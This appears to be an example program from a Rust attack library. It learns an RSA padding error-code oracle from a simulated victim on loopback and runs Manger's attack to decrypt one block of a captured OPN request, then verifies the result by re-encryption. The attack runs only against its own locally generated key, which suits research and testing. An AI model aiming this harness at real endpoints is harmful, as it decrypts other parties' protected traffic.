use std::error::Error;

use crypto_bigint::{U1024, U2048};
use manger::{
    bigint::rsa::{NistExponent, RSA},
    config::{AttackConfig, ErrorLearnerConfig, TransportConfig},
    endpoint::Endpoint,
    learner::{ErrorCodeOracleLearner, OracleLearner},
    manger::MangerAttack,
    sim::{self, Leak, SimulatedVictim},
    transport::TcpTransport,
};
use tokio::{net::TcpListener, runtime::Runtime};
use tracing::{error, info};

const LIMBS: usize = U1024::LIMBS;
const WIDE: usize = U2048::LIMBS;

fn to_hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

// Learns the error code oracle of a simulated victim on loopback and decrypts one block of a captured OPN request.
fn main() -> Result<(), Box<dyn Error>> {
    tracing_subscriber::fmt::init();

    let (public_key, private_key) = RSA::new::<LIMBS, NistExponent<LIMBS>>();
    let server = Runtime::new()?;
    let listener = server.block_on(TcpListener::bind("127.0.0.1:0"))?;
    let port = listener.local_addr()?.port();
    server.spawn(async move {
        if let Err(err) = sim::serve(listener, SimulatedVictim::new(private_key, Leak::ErrorCode)).await {
            error!("victim stopped : {err}");
        }
    });

    let endpoint = Endpoint::new("127.0.0.1", port, public_key);
    let transport = TcpTransport::new(&endpoint, TransportConfig::default())?;
    let mut learner = ErrorCodeOracleLearner::new(
        transport,
        sim::request_source::<LIMBS>(),
        ErrorLearnerConfig::default(),
    );

    let result = learner.learn(&endpoint)?;
    info!("{}", result.report);
    let Some(mut oracle) = result.oracle else {
        error!("victim does not leak through error codes");
        return Ok(());
    };

    let cipher_block = oracle.proxy().cipher_block().to_vec();
    let recovery =
        MangerAttack::<LIMBS, WIDE>::new(&cipher_block, &mut oracle, public_key, AttackConfig::default())?
            .execute()?;

    println!("plaintext : {}", to_hex(&recovery.plaintext));
    println!("queries   : {}", recovery.queries);

    if RSA::apply_block(&public_key, &recovery.plaintext) == Some(cipher_block) {
        info!("plaintext encrypts to the captured block");
    } else {
        error!("plaintext does not encrypt to the captured block");
    }
    Ok(())
}
